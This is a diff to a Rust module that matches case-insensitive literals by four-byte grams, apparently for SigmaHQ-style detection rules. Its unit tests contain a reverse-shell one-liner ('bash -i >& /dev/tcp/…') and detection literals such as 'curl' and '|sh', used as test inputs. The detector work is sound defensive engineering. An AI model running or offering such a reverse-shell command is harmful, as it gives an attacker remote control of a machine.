@@ -4,38 +4,33 @@
 //! stand in a text, in any case. Of each literal the rarest-looking run of four bytes (its gram) is kept; a pass looks
 //! at each four bytes of the text, asks a small table of bits whether they are a gram at all, and compares the literal
 //! only where they are. A pass depends little on the number of literals, and needs no automaton to be built: rules
-//! load in no time. Shorter literals have passes of their own. Texts that are not ASCII must be folded by the caller.
+//! load in no time. A literal of three bytes has as many grams as there are fourth bytes. Shorter ones are left out on
+//! purpose: they stand nearly everywhere. Texts that are not ASCII must be folded by the caller.
 //!
 //! Bounded: a pass costs the length of the text times the literals that share a gram, which [`Literals::new`] keeps few.
 
 use rustc_hash::FxHashMap;
 use std::collections::BTreeMap;
 
-/// Bits of the table for each gram: so many that a text that has nothing rarely hits one.
-const BITS_PER_GRAM: usize = 64;
-/// Fewest and most bits of the table, as powers of two: 128 bytes, and 16 KiB, half of a usual first-level cache.
-const TABLE_BITS: (u32, u32) = (10, 17);
+/// Shortest literal.
+pub(super) const LITERAL_BYTES: usize = 3;
+/// Bits of the table, as a power of two: 8 KiB, a sixth of a usual first-level cache. Some 2,000 grams, as all of
+/// SigmaHQ's rules have in one field, fill it to 3 %. One size for all, so that a pass has nothing to check.
+const TABLE_BITS: u32 = 16;
+const TABLE_WORDS: usize = 1 << (TABLE_BITS - 6);
 /// 2^32 divided by the golden ratio (Knuth, The Art of Computer Programming 3, §6.4): spreads what is alike.
 const SPREAD: u32 = 0x9E37_79B1;
 /// The bit that tells upper from lower case in ASCII, in each byte.
 const CASE: u32 = 0x2020_2020;
+/// The first three bytes of a gram.
+const SHORT: u32 = 0x00FF_FFFF;
 
 /// Literals of one field.
 #[derive(Debug, Default)]
 pub(super) struct Literals {
-    passes: Vec<Pass>,
-}
-
-/// Literals whose grams are of one length.
-#[derive(Debug)]
-struct Pass {
-    /// Length of the grams, 1 to 4.
-    width: usize,
-    /// The bits of a gram of this length.
-    mask: u32,
-    /// How far a hash is shifted to be an index into the table.
-    shift: u32,
-    table: Box<[u64]>,
+    /// A bit for each hash of a gram; nothing where there are no literals.
+    table: Option<Box<[u64; TABLE_WORDS]>>,
+    /// By gram; those of three bytes have a fourth of 0.
     grams: FxHashMap<u32, Vec<Literal>>,
 }
 
@@ -49,79 +44,59 @@ struct Literal {
 }
 
 impl Literals {
-    /// Makes folded literals ready; empty ones are left out.
+    /// Makes folded literals ready; those that are too short are left out.
     pub(super) fn new(literals: BTreeMap<String, Vec<usize>>) -> Self {
-        let mut by_width: [Vec<(String, Vec<usize>)>; 4] = Default::default();
+        let mut ready = Self::default();
         for (text, stands_for) in literals {
-            if let Some(same) = text.len().min(4).checked_sub(1).and_then(|slot| by_width.get_mut(slot)) {
-                same.push((text, stands_for));
-            }
+            ready.add(text.into_bytes().into_boxed_slice(), stands_for.into_boxed_slice());
         }
-        let passes = (1..).zip(by_width).filter(|(_, literals)| !literals.is_empty());
-        Self { passes: passes.map(|(width, literals)| Pass::new(width, literals)).collect() }
-    }
-
-    /// Calls `found` with the numbers of each literal that stands in `text`, perhaps more than once.
-    pub(super) fn find(&self, text: &[u8], found: &mut impl FnMut(usize)) {
-        for pass in &self.passes {
-            pass.find(text, found);
-        }
-    }
-}
-
-impl Pass {
-    fn new(width: usize, literals: Vec<(String, Vec<usize>)>) -> Self {
-        let bits = (literals.len() * BITS_PER_GRAM).next_power_of_two().ilog2().clamp(TABLE_BITS.0, TABLE_BITS.1);
-        let mask = u32::MAX >> (8 * (4 - width.min(4)));
-        let mut pass = Self {
-            width,
-            mask,
-            shift: 32 - bits,
-            table: vec![0; (1 << bits) / 64].into_boxed_slice(),
-            grams: FxHashMap::default(),
-        };
-        for (text, stands_for) in literals {
-            pass.add(text.into_bytes().into_boxed_slice(), stands_for.into_boxed_slice());
-        }
-        pass
+        ready
     }
 
     fn add(&mut self, text: Box<[u8]>, stands_for: Box<[usize]>) {
-        let sharing = |gram: u32| self.grams.get(&gram).map_or(0, Vec::len);
-        let choices = text.windows(self.width).enumerate().map(|(at, bytes)| {
-            let gram = gram(bytes) & self.mask;
-            // Two that share a gram are worse than one that looks a little less rare.
-            let rank = bytes.iter().map(|byte| rarity(*byte)).sum::<i64>() - 4 * sharing(gram) as i64;
-            (rank, at, gram)
-        });
-        let Some((_, at, gram)) = choices.max_by_key(|(rank, at, _)| (*rank, std::cmp::Reverse(*at))) else {
-            return;
-        };
-        let hash = gram.wrapping_mul(SPREAD) >> self.shift;
-        if let Some(word) = self.table.get_mut(hash as usize / 64) {
-            *word |= 1 << (hash % 64);
+        if text.len() == LITERAL_BYTES {
+            let short = gram(&text) & SHORT;
+            (0..=u8::MAX).for_each(|fourth| self.expect(short | u32::from(fourth) << 24 | CASE));
+            return self.grams.entry(short).or_default().push(Literal { text, at: 0, stands_for });
         }
-        self.grams.entry(gram).or_default().push(Literal { text, at, stands_for });
+        let choices = text.windows(4).enumerate().map(|(at, bytes)| {
+            let gram = gram(bytes);
+            // Two that share a gram are worse than one that looks a little less rare.
+            let sharing = i64::try_from(self.grams.get(&gram).map_or(0, Vec::len)).unwrap_or(i64::MAX / 8);
+            let rank = bytes.iter().map(|byte| rarity(*byte)).sum::<i64>() - 4 * sharing;
+            (rank, std::cmp::Reverse(at), gram)
+        });
+        if let Some((_, std::cmp::Reverse(at), gram)) = choices.max() {
+            self.expect(gram);
+            self.grams.entry(gram).or_default().push(Literal { text, at, stands_for });
+        }
     }
 
-    fn find(&self, text: &[u8], found: &mut impl FnMut(usize)) {
+    /// Sets the bit of a gram.
+    fn expect(&mut self, gram: u32) {
+        let (word, bit) = place(gram);
+        let table = self.table.get_or_insert_with(|| Box::new([0; TABLE_WORDS]));
+        if let Some(word) = table.get_mut(word) {
+            *word |= 1 << bit;
+        }
+    }
+
+    /// Calls `found` with the numbers of each literal that stands in `text`, perhaps more than once.
+    #[inline]
+    pub(super) fn find(&self, text: &[u8], found: &mut impl FnMut(usize)) {
+        let Some(table) = self.table.as_deref() else { return };
         let mut look = |at: usize, gram: u32| {
-            let hash = gram.wrapping_mul(SPREAD) >> self.shift;
-            let word = self.table.get(hash as usize / 64).copied().unwrap_or(0);
-            if word >> (hash % 64) & 1 == 1 {
+            let (word, bit) = place(gram);
+            if table.get(word).is_some_and(|word| word >> bit & 1 == 1) {
                 self.compare(text, at, gram, found);
             }
         };
-        if self.width == 4 {
-            for (at, bytes) in text.windows(4).enumerate() {
-                if let Ok(bytes) = <[u8; 4]>::try_from(bytes) {
-                    look(at, u32::from_le_bytes(bytes) | CASE);
-                }
-            }
-        } else {
-            for (at, bytes) in text.windows(self.width).enumerate() {
-                look(at, gram(bytes) & self.mask);
-            }
+        for (at, bytes) in text.array_windows::<4>().enumerate() {
+            look(at, u32::from_le_bytes(*bytes) | CASE);
+        }
+        // Three bytes at the end have no fourth.
+        if let Some(at) = text.len().checked_sub(LITERAL_BYTES) {
+            look(at, gram(text.get(at..).unwrap_or_default()));
         }
     }
 
@@ -129,16 +104,25 @@ impl Pass {
     #[cold]
     #[inline(never)]
     fn compare(&self, text: &[u8], at: usize, gram: u32, found: &mut impl FnMut(usize)) {
-        for literal in self.grams.get(&gram).into_iter().flatten() {
-            let stands = at.checked_sub(literal.at).is_some_and(|start| {
-                text.get(start..start + literal.text.len())
-                    .is_some_and(|part| part.eq_ignore_ascii_case(&literal.text))
-            });
-            if stands {
-                literal.stands_for.iter().for_each(|number| found(*number));
+        for gram in [gram, gram & SHORT] {
+            for literal in self.grams.get(&gram).into_iter().flatten() {
+                let stands = at.checked_sub(literal.at).is_some_and(|start| {
+                    text.get(start..start + literal.text.len())
+                        .is_some_and(|part| part.eq_ignore_ascii_case(&literal.text))
+                });
+                if stands {
+                    literal.stands_for.iter().for_each(|number| found(*number));
+                }
             }
         }
     }
+}
+
+/// Where in the table a gram has its bit: word and bit.
+#[inline]
+fn place(gram: u32) -> (usize, u32) {
+    let hash = gram.wrapping_mul(SPREAD) >> (u32::BITS - TABLE_BITS);
+    ((hash >> 6) as usize, hash & 63)
 }
 
 /// Up to four bytes as a number, without case.
@@ -162,10 +146,22 @@ mod tests {
 
     #[test]
     fn every_literal_in_a_text_is_found_whatever_its_length_and_place() {
-        let words = ["a", "sh", "-i ", "curl", "/dev/tcp/", "aaaa", "nothere", "ñandú", "zz"];
+        let words = ["-i ", "curl", "/dev/tcp/", "aaaa", "nothere", "ñandú", "|sh", "aaa"];
         let literals = words.iter().enumerate().map(|(number, word)| ((*word).to_owned(), vec![number]));
         let set = Literals::new(literals.collect());
-        for text in ["bash -i >& /dev/tcp/1.2.3.4/9", "CURL", "xaaaaax", "", "s", "el ñandú", "z", "nother"] {
+        for text in [
+            "bash -i >& /dev/tcp/1.2.3.4/9",
+            "CURL",
+            "curl x|SH",
+            "|sh x",
+            "xaaaaax",
+            "",
+            "s",
+            "|s",
+            "aaa",
+            "el ñandú",
+            "nother",
+        ] {
             let mut found = Vec::new();
             set.find(text.as_bytes(), &mut |number| found.push(number));
             found.sort_unstable();
